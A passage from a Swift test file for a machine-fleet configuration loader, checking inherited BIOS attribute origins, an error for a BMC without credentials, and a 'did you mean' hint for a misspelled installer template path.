        #expect(own.origins["bios.attributes"] == .machine(SourceLocation(file: "m.yaml", line: 9, column: 17)))
        let inherited = resolver.resolve(try #require(result.fleet.machine(named: "web-02")))
        #expect(inherited.settings.bios?.attributes == ["Sriov": .string("Enabled")])
        #expect(inherited.origins["bios.attributes"] == .group("web", SourceLocation(file: "g.yaml", line: 4, column: 61)))
        #expect(inherited.inheritedFieldValues["bios.attributes"] == #"{Sriov: "Enabled"}"#)
    }

    @Test("a BMC without credentials, from the machine or a group, is an error")
    func bmcNeedsCredentials() {
        let result = load(["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                                    extra: "  bmc: {address: https://198.18.0.121}\n")])
        #expect(rendered(result) == [
            "m.yaml:8:18: machine 'web-01' has a BMC but no 'bmc.credentials': set it on the machine or in a group's defaults",
        ])
    }

    @Test("a missing installer template is named, with the path it was looked for")
    func missingTemplate() {
        let profile = Sample.profile + "\n  installer: {kind: preseed, template: templates/debian12.preseed}\n"
        let result = load(["p.yaml": profile], knownPaths: ["p.yaml", "templates/debian-12.preseed"])
        #expect(rendered(result) == [
            "p.yaml:8:40: profile 'debian-12': template 'templates/debian12.preseed' does not exist; did you mean 'templates/debian-12.preseed'?",
        ])
    }
}
